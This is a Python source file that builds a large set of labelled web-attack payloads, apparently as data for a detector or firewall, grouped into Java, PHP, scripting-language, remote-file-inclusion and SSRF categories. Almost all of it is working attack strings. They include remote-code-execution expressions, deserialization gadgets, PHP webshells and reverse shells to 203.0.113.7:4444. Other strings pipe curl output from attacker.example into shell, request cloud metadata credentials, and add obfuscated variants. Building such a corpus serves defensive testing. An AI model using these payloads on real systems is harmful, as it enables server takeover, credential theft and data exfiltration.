    a(
        "form",
        'username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("id")]',
        as_name=True,
        keyval="x",
        form_extra=[("password", "x"), ("repeatedPassword", "x")],
        path="/users",
    )
    a(
        "json",
        "CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new',' java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }');CALL EXEC('id');",
        path="/actuator/env",
        method="POST",
        doc={"name": "spring.datasource.hikari.connection-test-query", "value": PH},
    )
    a(
        "json",
        "jdbc:h2:mem:tempdb;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://198.51.100.23/pwn.sql'",
        path="/api/v1/datasources/test",
        param="jdbcUrl",
    )
    a(
        "json",
        "jdbc:mysql://203.0.113.7:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&user=yso_CommonsCollections6_id",
        path="/api/integrations/mysql",
        param="connectionUrl",
    )
    a(
        "cookie",
        "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch /tmp/el')}",
        cookie="ui_locale",
        path="/portal/home.jsf",
    )
    a(
        "multipart",
        "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.redirectErrorStream(true)).(#p.start())}",
        mp="filename",
        fcontent="x\n",
        fctype="text/plain",
        path="/doUpload.action",
        param="upload",
    )
    a(
        "xml",
        '<tree-map>\n  <entry>\n    <dynamic-proxy>\n      <interface>java.lang.Comparable</interface>\n      <handler class="java.beans.EventHandler">\n        <target class="java.lang.ProcessBuilder">\n          <command><string>bash</string><string>-c</string><string>curl -s http://attacker.example/xs | bash</string></command>\n        </target>\n        <action>start</action>\n      </handler>\n    </dynamic-proxy>\n    <string>x</string>\n  </entry>\n</tree-map>',
        xml_doc=True,
        path="/rest/orders",
        ctype="application/xml",
    )
    a(
        "json_key",
        'username[#this.getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\'id\')")]',
        keyval="x",
        path="/api/users/register",
        param="form",
    )
    a("query", "new('java.lang.ProcessBuilder', ['sh', '-c', 'id']).start()", path="/api/reports/preview", param="expr")
    # hard
    a(
        "query_key",
        "(x)(('\\u0023rt.exec(\\'touch\\u0020/tmp/s2\\')')(\\u0023rt\\u003d@java.lang.Runtime@getRuntime()))",
        True,
        keyval="1",
        path="/login.action",
        extra_q=[("('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)", "true")],
        no_filler_q=True,
        q_pos=1,
    )
    a(
        "json",
        "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))",
        True,
        path="/api/v1/alerts/rules",
        param="condition",
    )
    a(
        "query",
        "T(java.lang.Class).forName('java.la'+'ng.Run'+'time').getMethod('ex'+'ec',T(String)).invoke(T(java.lang.Class).forName('java.la'+'ng.Run'+'time').getMethod('getRu'+'ntime').invoke(null),'id')",
        True,
        path="/api/search",
        param="orderBy",
    )
    a(
        "header",
        "T(java.lang.Runtime).getRuntime().exec(new String(T(java.util.Base64).getDecoder().decode('%s')))"
        % b64("touch /tmp/routing"),
        True,
        hdr="spring.cloud.function.routing-expression",
        path="/functionRouter",
        method="POST",
        body_override=("application/json", '{"name":"test"}'),
    )
    a(
        "json",
        "#{ new java.util.Scanner(\n\tT(java.lang.Runtime)\n\t.getRuntime().exec('id')\n\t.getInputStream()).next() }",
        True,
        esc=set("T(#{"),
        path="/api/v1/mail/preview",
        param="subject",
    )
    a(
        "json",
        "${''.getClass().forName('javax.script.ScriptEngine'.concat('Manager')).newInstance().getEngineByName('nashorn').eval('java.lang.Run'.concat('time.getRuntime().exec(\"id\")'))}",
        True,
        esc=set("${}."),
        path="/api/forms/validate",
        param="errorMessage",
    )
    a("form", '"di".reverse().execute().text', True, path="/script", param="script")
    a("json", "[105,100].collect{it as char}.join().execute().text", True, path="/api/automation/steps", param="groovy")
    a(
        "json",
        "Class.forName('java.la'+'ng.Run'+'time').getRuntime().exec('id')",
        True,
        path="/api/workflows/eval",
        param="script",
        deep=True,
    )
    a(
        "multipart",
        '!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://198.51.100.23/y.jar"]]]]\n',
        True,
        mp="file",
        fname="application.yaml",
        fctype="text/yaml",
        path="/api/config/upload",
        param="file",
    )
    a(
        "xml",
        '<sorted-set>\n  <!-- reorder -->\n  <dynamic-proxy>\n    <interface>java.lang.&#67;omparable</interface>\n    <handler class="java.beans.&#69;vent&#x48;andler">\n      <target class="java.lang.Process&#66;uilder">\n        <command><string>ncat</string><string>203.0.113.7</string><string>4444</string><string>-e</string><string>/bin/sh</string></command>\n      </target>\n      <action>st&#x61;rt</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>',
        True,
        xml_doc=True,
        path="/api/sync",
        ctype="application/xml",
    )
    a(
        "xml",
        '<?xml version="1.0" encoding="UTF-8"?>\n<java>\n  <void class="java.lang.ProcessBuilder">\n    <array class="java.lang.String" length="3">\n      <void index="0"><string><![CDATA[/bin/sh]]></string></void>\n      <void index="1"><string><![CDATA[-c]]></string></void>\n      <void index="2"><string><![CDATA[echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveHxzaA==|base64 -d|sh]]></string></void>\n    </array>\n    <void method="start" id="p"/>\n  </void>\n</java>',
        True,
        xml_doc=True,
        path="/_async/AsyncResponseService",
        ctype="text/xml",
    )
    a(
        "form",
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix",
        True,
        as_name=True,
        keyval=".jsp",
        enc="all",
        path="/register",
        no_filler_form=True,
        form_extra=[("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "shell")],
    )
    ognl = "%{(#r=@java.lang.Runtime@getRuntime()).(#r.exec('id'))}"
    a("query", pct_once(ognl), True, path="/struts/message.action", param="msg")
    a(
        "path",
        '${@java.lang.Runtime@getRuntime().exec("\\u0074\\u006f\\u0075\\u0063\\u0068 /tmp/c")}',
        True,
        path_tpl="/{}/",
    )
    a(
        "json",
        '["org.springframework.context.support.FileSystemXmlApplicationContext","http://attacker.example/beans.xml"]',
        True,
        raw=True,
        esc_map={"org.springframework.context.support.FileSystemXmlApplicationContext": set(".S")},
        path="/api/v1/tasks",
        param="runner",
    )
    a(
        "json",
        'jdbc:h2:mem:x;MODE=MSSQLServer;init=CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec("id")$$',
        True,
        path="/api/admin/connections",
        param="url",
    )
    a(
        "header",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#c='wh'+'oa'+'mi').(#p=new java.lang.ProcessBuilder(#c)).(#p.start())}",
        True,
        hdr="Content-Type",
        path="/index.action",
        method="GET",
    )
    a(
        "cookie",
        "${''['class'].forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
        True,
        cookie="pref_view",
        path="/portal/index.jsf",
        enc="all",
    )
    a(
        "query",
        "new('java.lang.Process'+'Builder', ['sh','-c','i'+'d']).start()",
        True,
        path="/api/reports/preview",
        param="expr",
    )
    return a.rows


# ----------------------------------------------------------------- php ----
def cat_php(r):
    a = L()
    laravel = php_obj(
        "Illuminate\\Broadcasting\\PendingBroadcast",
        [
            ("events", "prot", php_obj("Faker\\Generator", [("formatters", "prot", {"dispatch": "system"})])),
            ("event", "prot", "id"),
        ],
    )
    laravel2 = php_obj(
        "Illuminate\\Broadcasting\\PendingBroadcast",
        [
            ("events", "prot", php_obj("Faker\\Generator", [("formatters", "prot", {"dispatch": "passthru"})])),
            ("event", "prot", "cat /etc/passwd"),
        ],
    )
    guzzle = php_obj(
        "GuzzleHttp\\Psr7\\FnStream", [("methods", "pub", {"close": "phpinfo"}), ("_fn_close", "pub", "phpinfo")]
    )
    sympipes = php_obj(
        "Symfony\\Component\\Process\\Pipes\\WindowsPipes", [("files", "priv", ["/var/www/html/.htaccess"])]
    )
    laravel_S = Raw(
        str(
            php_obj(
                "Illuminate\\Broadcasting\\PendingBroadcast",
                [
                    (
                        "events",
                        "prot",
                        php_obj("Faker\\Generator", [("formatters", "prot", {"dispatch": php_S("system")})]),
                    ),
                    ("event", "prot", php_S("uname -a")),
                ],
            )
        )
    )
    a("query", "system('id');", path="/tools/calc.php", param="expr")
    a("query", "\";system('cat /etc/passwd');//", path="/greet.php", param="name")
    a("form", "'.passthru('uname -a').'", path="/admin/settings.php", param="site_title")
    a("query", "{${system('id')}}", path="/message.php", param="msg")
    a(
        "query",
        'passthru("ls -la /var/www")',
        path="/tools/replace.php",
        param="replacement",
        extra_q=[("pattern", "/.*/e"), ("subject", "hello")],
        no_filler_q=True,
    )
    a(
        "multipart",
        "<?php if(isset($_REQUEST['c'])){ echo '<pre>'.shell_exec($_REQUEST['c']).'</pre>'; } ?>\n",
        mp="file",
        fname="avatar.php",
        fctype="image/jpeg",
        path="/profile/avatar",
        param="avatar",
    )
    a(
        "multipart",
        "AddType application/x-httpd-php .png\n",
        mp="file",
        fname=".htaccess",
        fctype="text/plain",
        path="/media/upload",
        param="file",
    )
    a(
        "multipart",
        "GIF89a;\n<?php system($_GET['x']); ?>\n",
        mp="file",
        fname="profile.phtml",
        fctype="image/gif",
        path="/account/photo",
        param="photo",
    )
    a("header", "<?php system($_GET['cmd']); ?>", hdr="User-Agent", path="/index.php")
    a("cookie", str(laravel), cookie="remember_web", path="/dashboard")
    a("query", str(guzzle), path="/api/cart/restore", param="data")
    a("form", str(sympipes), path="/import/state", param="state")
    a("json", "1+1;system('id')", path="/api/pricing/formula", param="formula")
    a("form", "1;}system('id');/*", path="/report/sort.php", param="sort_expr")
    a("query", "phar:///var/www/uploads/2026/12/avatar.jpg/x", path="/image/check.php", param="file")
    a("path", "<?php system($_GET[c]);?>", path_tpl="/index.php/{}")
    a("query_key", "<?php passthru($_GET['p']);?>", keyval="1", path="/index.php")
    a("json_key", "a'];system($_GET['c']);//", keyval="1", path="/install/config", param="settings")
    a("xml", "';system('id');$a='", path="/xmlrpc/profile.php", param="nickname")
    a("form", "<?= `$_GET[0]` ?>", path="/theme/editor", param="footer_html")
    a(
        "json",
        "file_put_contents('/var/www/html/s.php', '<?php eval($_POST[\"p\"]); ?>');",
        path="/api/hooks",
        param="on_save",
    )
    a("query", 'system("id")', path="/debug/assert.php", param="check")
    a(
        "multipart",
        "auto_prepend_file=uploads/avatar.jpg\n",
        mp="file",
        fname=".user.ini",
        fctype="text/plain",
        path="/upload.php",
        param="file",
    )
    a("form", "${@eval($_POST[1])}", path="/tpl/render.php", param="tpl", form_extra=[("1", "phpinfo();")])
    a("query", "'].phpinfo().['", path="/lang.php", param="key")
    a("cookie", "<?php system('id');?>", cookie="PREF", path="/index.php")
    a("header", "<?=system($_GET[0]);?>", hdr="X-Forwarded-For", path="/login.php")
    a("json", str(laravel2), path="/api/queue/jobs", param="payload", deep=True)
    a("multipart", "@eval($_POST['z']);", mp="field", path="/admin/plugin-editor", param="code")
    a("query", "array_map('system',array('whoami'))", path="/api/export.php", param="callback")
    # hard
    a(
        "form",
        '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
        True,
        path="/debug.php",
        param="code",
        form_extra=[("_", "system"), ("__", "id")],
    )
    a("query", "('sy'.'stem')('id');", True, path="/tools/calc.php", param="expr")
    a("json", "$f=strrev('metsys');$f('id');", True, path="/api/eval", param="code")
    a(
        "query",
        "system(" + ".".join("chr(%d)" % ord(c) for c in "cat /etc/passwd") + ");",
        True,
        path="/calc.php",
        param="q",
    )
    a("form", "eval(base64_decode('%s'));" % b64("system('id');"), True, path="/widget.php", param="w")
    a("query", "assert(str_rot13('%s'));" % codecs.encode('system("id")', "rot13"), True, path="/check.php", param="v")
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    gz = co.compress(b"passthru('whoami');") + co.flush()
    a("json", "eval(gzinflate(base64_decode('%s')));" % b64(gz), True, path="/api/snippets/run", param="snippet")
    a("query", "SyStEm /*x*/ ( 'id' ) ;", True, path="/tools/calc.php", param="expr")
    a(
        "multipart",
        "<?=`\\x69\\x64`?>\n",
        True,
        mp="file",
        fname="tpl.phtml",
        fctype="text/html",
        path="/templates/upload",
        param="template",
    )
    a(
        "multipart",
        "<script language=\"php\">system($_GET['c']);</script>\n",
        True,
        mp="file",
        fname="invoice.php5",
        fctype="application/pdf",
        path="/billing/attach",
        param="attachment",
    )
    a("cookie", str(laravel_S), True, cookie="laravel_state", path="/")
    a("cookie", b64(php_s([guzzle])), True, cookie="cart", path="/checkout")
    a("query", "compress.zlib://phar:///var/www/uploads/avatar.jpg/a", True, path="/thumb.php", param="src")
    a("query", '{${("\\x73\\x79\\x73\\x74\\x65\\x6d")("id")}}', True, path="/message.php", param="msg")
    a(
        "json",
        "call_user_func(implode('',['sys','tem']),'id');",
        True,
        path="/api/plugins/exec",
        param="hook",
        deep=True,
    )
    a(
        "query",
        "$_GET['a']($_GET['b']);",
        True,
        path="/run.php",
        param="code",
        extra_q=[("a", "system"), ("b", "id")],
        no_filler_q=True,
    )
    a("json", "<?php system($_GET[c]); ?>", True, esc=set("<>?"), path="/api/theme/footer", param="html")
    a(
        "header",
        "<?php /**/ eval /**/ ( $_SERVER [ 'HTTP_X_K' ] ) ; ?>",
        True,
        hdr="User-Agent",
        path="/index.php",
        hdr_extra=[("X-K", "system('id');")],
    )
    a("xml", "<?php passthru($_POST['x']);", True, charref=set("<?"), path="/api/import/template", param="body")
    a("form", "a'.system($_GET[c]).'", True, as_name=True, keyval="1", path="/install.php", enc="all")
    return a.rows


# ---------------------------------------------------------------- code ----
def cat_code(r):
    a = L()
    pick = pickle_b64 = b64(b"cposix\nsystem\n(Vcurl -s http://attacker.example/p|sh\ntR.")
    ruby_yaml = (
        "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
        "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
        '      loaded_from: "|id 1>&2"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n'
    )
    a("query", "__import__('os').system('id')", path="/api/calc", param="expr")
    a(
        "json",
        "__import__('subprocess').check_output(['cat','/etc/passwd']).decode()",
        path="/api/sheets/eval",
        param="formula",
    )
    a(
        "form",
        "exec(\"import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])\")",
        path="/tools/expression",
        param="code",
    )
    a("cookie", pickle_b64, cookie="session", path="/account")
    a(
        "multipart",
        '!!python/object/apply:os.system ["curl -s http://198.51.100.23/y | sh"]\n',
        mp="file",
        fname="pipeline.yml",
        fctype="application/x-yaml",
        path="/api/ci/import",
        param="file",
    )
    a("json", '!!python/object/new:subprocess.check_output [["id"]]', path="/api/config/validate", param="yaml")
    a("query", "require('child_process').execSync('id').toString()", path="/api/filter", param="where")
    a(
        "json",
        "process.mainModule.require('child_process').exec('curl -s http://attacker.example/n.sh | sh')",
        path="/api/report/compute",
        param="expression",
    )
    a(
        "json",
        "_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e,o){});}()",
        path="/api/profile",
        param="preferences",
    )
    a(
        "query",
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')",
        path="/sandbox/run",
        param="js",
    )
    a(
        "json_key",
        "__proto__",
        keyval={
            "shell": "/proc/self/exe",
            "argv0": "console.log(require('child_process').execSync('id').toString())//",
            "NODE_OPTIONS": "--require /proc/self/cmdline",
        },
        path="/api/user/settings",
        param="settings",
    )
    a(
        "query_key",
        "__proto__[outputFunctionName]",
        keyval="x;process.mainModule.require('child_process').execSync('id');s",
        path="/render",
    )
    a(
        "json",
        '{"prototype":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').exec(\'nc 203.0.113.7 4444 -e /bin/sh\');var __tmp2"}}',
        raw=True,
        path="/api/merge",
        param="constructor",
    )
    a("form", "#{`id`}", path="/greeting", param="template")
    a("json", "|curl -s http://attacker.example/r.sh | sh", path="/api/feeds/fetch", param="url")
    a(
        "multipart",
        ruby_yaml,
        mp="file",
        fname="settings.yml",
        fctype="text/yaml",
        path="/admin/settings/import",
        param="file",
    )
    a("form", '@{[ system("id") ]}', path="/cgi-bin/guestbook.pl", param="message")
    a("json", 'os.execute("id")', path="/api/game/scripts", param="script")
    a(
        "form",
        'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res',
        path="/admin/cache/eval",
        param="script",
    )
    a("query", 'io.popen("cat /etc/passwd"):read("*a")', path="/api/lua", param="expr")
    a("json", '{{ plugin "/bin/sh" "-c" "id" }}', path="/api/v1/config-templates", param="template")
    a("query", '{{ file "/etc/passwd" }}', path="/preview", param="tpl")
    a(
        "json",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}',
        raw=True,
        path="/api/Orders/Import",
        param="metadata",
    )
    a(
        "xml",
        '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system">\n  <ObjectDataProvider x:Key="x" ObjectType="{x:Type Diag:Process}" MethodName="Start">\n    <ObjectDataProvider.MethodParameters>\n      <System:String>cmd</System:String>\n      <System:String>/c powershell -nop -w hidden -c iwr http://attacker.example/a.ps1|iex</System:String>\n    </ObjectDataProvider.MethodParameters>\n  </ObjectDataProvider>\n</ResourceDictionary>',
        xml_doc=True,
        path="/api/themes/import",
        ctype="application/xaml+xml",
    )
    a(
        "form",
        '@System.Diagnostics.Process.Start("cmd.exe","/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt")',
        path="/Newsletter/Preview",
        param="Body",
    )
    a("header", b64(b"cos\nsystem\n(S'id'\ntR."), hdr="X-Auth-Context", path="/api/internal/jobs")
    a("path", "__import__('os').popen('id').read()", path_tpl="/api/calc/{}")
    a(
        "json",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').system('id')",
        path="/api/rules/evaluate",
        param="condition",
    )
    a(
        "multipart",
        "require('child_process').spawnSync('sh',['-c','id']).stdout.toString()",
        mp="field",
        path="/api/charts/render",
        param="labelFormatter",
    )
    a(
        "xml",
        '[x for x in ().__class__.__base__.__subclasses__() if x.__name__=="Popen"][0](["uname","-a"],stdout=-1).communicate()',
        path="/api/formula",
        param="expression",
    )
    # hard
    a("query", "getattr(__import__('o'+'s'),'sys'+'tem')('id')", True, path="/api/calc", param="expr")
    a(
        "json",
        "__builtins__.__dict__['__imp'+'ort__']('os').popen('id').read()",
        True,
        path="/api/sheets/eval",
        param="formula",
    )
    hx = "__import__('os').system('id')".encode().hex()
    a("query", "eval(bytes.fromhex('%s'))" % hx, True, path="/api/calc", param="expr")
    a(
        "form",
        "exec(__import__('base64').b64decode('%s'))"
        % b64("import os;os.system('curl -s http://attacker.example/b|sh')"),
        True,
        path="/tools/expression",
        param="code",
    )
    a(
        "json",
        "__\U0001d422\U0001d426\U0001d429\U0001d428\U0001d42b\U0001d42d__('os').system('id')",
        True,
        path="/api/formula/eval",
        param="expression",
    )
    a(
        "query",
        "\uff45\uff56\uff41\uff4c(\"__import__('os').popen('id').read()\")",
        True,
        path="/api/calc",
        param="expr",
    )
    a(
        "json",
        "(lambda f: f('os'))(__import__).system('id')",
        True,
        path="/api/notebook/cell",
        param="source",
        deep=True,
    )
    a("query", "require('child_'+'process')['ex'+'ecSync']('id')+''", True, path="/api/filter", param="where")
    a(
        "json",
        "eval(Buffer.from('%s','base64').toString())" % b64("require('child_process').execSync('id')"),
        True,
        path="/api/report/compute",
        param="expression",
    )
    a("form", '\\u0072equire("child_process").execSync("id").toString()', True, path="/sandbox/run", param="js")
    a(
        "json",
        'Function("return process")().mainModule.require("child_process").execSync("cat /etc/passwd")',
        True,
        esc=set("()"),
        path="/api/widgets/compute",
        param="fn",
    )
    a("form", "Kernel.send(:`, 'id')", True, path="/greeting", param="template")
    a("query", 'eval pack("H*","%s")' % 'system("id");'.encode().hex(), True, path="/cgi-bin/calc.pl", param="expr")
    a(
        "json",
        "load(string.char(%s))()" % ",".join(str(ord(c)) for c in 'os.execute("id")'),
        True,
        path="/api/game/scripts",
        param="script",
    )
    a(
        "json",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}',
        True,
        raw=True,
        esc_map={"$type": set("$t"), "Start": set("S")},
        path="/api/Widgets",
        param="state",
    )
    a(
        "json_key",
        "__proto__",
        True,
        keyval={"isAdmin": True, "execArgv": ["--eval=require('child_process').execSync('id')"]},
        esc_map={"__proto__": set("pt")},
        path="/api/preferences",
        param="prefs",
    )
    a("query", "qx{\\x69\\x64}", True, path="/cgi-bin/report.pl", param="fmt")
    a(
        "json",
        '{{ plugin "/bin/sh" "-c" (printf "%c%c" 105 100) }}',
        True,
        path="/api/v1/config-templates",
        param="template",
    )
    a(
        "multipart",
        "__import__('builtins').getattr(__import__('o'+'s'),'po'+'pen')('i'+'d').read()",
        True,
        mp="field",
        path="/api/reports/custom",
        param="column_expr",
    )
    a(
        "header",
        b64(b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."),
        True,
        hdr="X-Session-State",
        path="/api/session/resume",
    )
    return a.rows


# ----------------------------------------------------------------- rfi ----
def cat_rfi(r):
    a = L()
    shell = "<?php system($_GET['c']); ?>"
    a("query", "http://attacker.example/shell.txt?", path="/index.php", param="page")
    a("query", "https://203.0.113.7/c.txt", path="/view.php", param="file")
    a("form", "ftp://anonymous:guest@198.51.100.23/pub/inc.php", path="/modules.php", param="template")
    a("query", "\\\\198.51.100.23\\share\\en.php", path="/index.php", param="lang")
    a("query", "data://text/plain;base64," + b64(shell), path="/index.php", param="page")
    a("query", "data:text/plain,<?php phpinfo(); ?>", path="/main.php", param="module")
    a(
        "query",
        "php://input",
        path="/index.php",
        param="page",
        method="POST",
        body_override=("text/plain", "<?php system('id'); ?>"),
    )
    a("json", "expect://id", path="/api/include", param="file")
    a("cookie", "zip:///var/www/html/uploads/avatar.jpg#shell", cookie="page", path="/index.php")
    a("json", "http://attacker.example/theme/functions.txt", path="/api/admin/theme", param="theme_url")
    a("json", "https://attacker.example/plugin.php", path="/api/plugins/install", param="source")
    a("form", "http://attacker.example/x.txt", path="/admin/footer.php", param="include")
    a("cookie", "http://attacker.example/lang/en", cookie="lang", path="/index.php")
    a("multipart", "https://attacker.example/tpl.txt", mp="field", path="/admin/templates/new", param="template_url")
    a("xml", "http://attacker.example/skin.txt", path="/api/config", param="skin")
    a("path", "http://attacker.example/s.txt", path_tpl="/index.php/page/{}")
    a("query", "http://attacker.example/shell.jsp", path="/portal/include.jsp", param="page")
    a("query", "http://attacker.example/", path="/wp-content/plugins/gallery/inc/frame.php", param="abspath")
    a("query", "http://attacker.example/x.txt?", path="/components/com_feed/feed.php", param="mosConfig_absolute_path")
    a("query", "http://attacker.example/s.txt\x00", path="/show.php", param="page")
    a("form", "ftp://attacker.example/inc.txt", path="/load.php", param="module")
    a("json", "http://198.51.100.23:8080/r.txt", path="/api/widgets", param="include")
    a("cookie", "https://attacker.example/t", cookie="template", path="/home.php")
    a("multipart", "https://raw.attacker.example/gist/shell.txt", mp="field", path="/page.php", param="content")
    a("xml", "http://203.0.113.7/header.inc", path="/services/LayoutService", param="headerFile", xml_style=1)
    a("multipart", "http://attacker.example/l.txt", mp="field", path="/admin/lang/import", param="lang_file")
    a("path", "ftp://198.51.100.23/x.txt", path_tpl="/render.php/{}/view")
    a("json", "http://attacker.example/f.txt", path="/api/site/layout", param="footer_include", deep=True)
    a("header", "http://attacker.example/inc.txt", hdr="X-Layout-Include", path="/index.php")
    a("json", "http://attacker.example/shell.txt", path="/api/modules/load", param="inc_dir")
    # hard
    a("query", "hTtP://attacker.example/s.txt?", True, path="/index.php", param="page")
    a("query", "http://%s/s.txt" % ip_hex(ATK_IP), True, path="/index.php", param="file")
    a("query", "http://%d/shell.txt" % ip_int(ATK_IP), True, path="/view.php", param="page")
    a("json", "http://%s/s.txt" % ip_v6mapped(ATK_IP), True, path="/api/theme", param="url")
    a("query", pct_once(pct_once("http://attacker.example/s.txt")), True, path="/index.php", param="page")
    a("query", "data:;base64," + b64("<?=`$_GET[c]`;"), True, path="/index.php", param="page")
    a(
        "query",
        "php://filter/read=string.rot13/resource=http://attacker.example/s.txt",
        True,
        path="/index.php",
        param="page",
    )
    a("form", "compress.zlib://http://attacker.example/s.gz", True, path="/index.php", param="module")
    a("query", "\\\\attacker.example@SSL@443\\DavWWWRoot\\s.php", True, path="/index.php", param="lang")
    a("path", "http://attacker.example/s.txt#", True, path_tpl="/include/{}")
    a("form", "http://cdn.example.com@attacker.example/s.txt", True, path="/admin/include.php", param="src")
    a("query", b64("http://attacker.example/shell.txt"), True, path="/index.php", param="p64")
    a("query", "DATA:TEXT/PLAIN;BASE64," + b64("<?PHP\tsystem($_REQUEST['x']);"), True, path="/index.php", param="page")
    a("json", "http://attacker.example/s.txt", True, esc=set(":/."), path="/api/site/header", param="include")
    a("query", "\\\\?\\UNC\\198.51.100.23\\share\\a.php", True, path="/index.php", param="file")
    a("query", "http://%s/s.txt" % ip_hex_dotted(ATK_IP2), True, path="/main.php", param="page")
    a("cookie", "http://%s/lang" % ip_oct_dotted(ATK_IP2), True, cookie="lang", path="/index.php")
    a(
        "multipart",
        "https://attacker.example:8443/t.txt?.php",
        True,
        mp="field",
        path="/admin/templates/new",
        param="template_url",
    )
    a("path", "http://attacker.example/s.txt", True, path_tpl="/index.php/page/{}", enc="all")
    a("xml", "HTTP://ATTACKER.EXAMPLE/S.TXT?", True, charref=set("HP:"), path="/api/config", param="skin")
    return a.rows


# ---------------------------------------------------------------- ssrf ----
def cat_ssrf(r):
    a = L()
    a("query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", path="/api/v1/preview", param="url")
    a(
        "json",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        path="/api/webhooks",
        param="target",
    )
    a("query", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", path="/proxy", param="u")
    a("json", "http://127.0.0.1:8080/admin/users", path="/api/link-preview", param="url")
    a("form", "http://localhost:6379/", path="/tools/check-url", param="url")
    a(
        "query",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
        path="/api/fetch",
        param="url",
    )
    a("json", "file:///etc/passwd", path="/api/documents/import", param="source_url")
    a("query", "dict://127.0.0.1:11211/stats", path="/image", param="src")
    a("json", "http://10.0.0.5:9200/_cat/indices?v", path="/api/integrations/test", param="endpoint")
    a(
        "query",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        path="/api/thumbnail",
        param="image",
    )
    a("form", "http://192.168.0.1/cgi-bin/luci", path="/settings/webhook", param="callback_url")
    a("json", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", path="/api/v2/hooks", param="url")
    a("query", "http://127.0.0.1:2375/containers/json?all=1", path="/api/rss/add", param="feed")
    a("json", "http://[::1]:8500/v1/agent/self", path="/api/monitors", param="check_url")
    a("query", "http://169.254.170.2/v2/credentials/", path="/download", param="file_url")
    a(
        "header",
        "169.254.169.254",
        hdr="X-Forwarded-Host",
        path="/api/password-reset",
        method="POST",
        body_override=("application/json", '{"email":"victim@example.com"}'),
    )
    a(
        "header",
        "http://127.0.0.1:8080/actuator/env",
        hdr="X-Callback-Url",
        path="/api/jobs/export",
        method="POST",
        body_override=("application/json", '{"format":"csv"}'),
    )
    a("cookie", "http://169.254.169.254/latest/user-data", cookie="avatar_src", path="/profile")
    a("multipart", "http://127.0.0.1:9000/minio/admin/v3/info", mp="field", path="/api/import/url", param="remote_url")
    a(
        "multipart",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">\n  <image xlink:href="http://169.254.169.254/latest/meta-data/hostname" width="200" height="200"/>\n</svg>\n',
        mp="file",
        fname="logo.svg",
        fctype="image/svg+xml",
        path="/api/brand/logo",
        param="logo",
    )
    a("xml", "http://127.0.0.1:8500/v1/kv/?recurse", path="/api/feeds", param="avatarUrl")
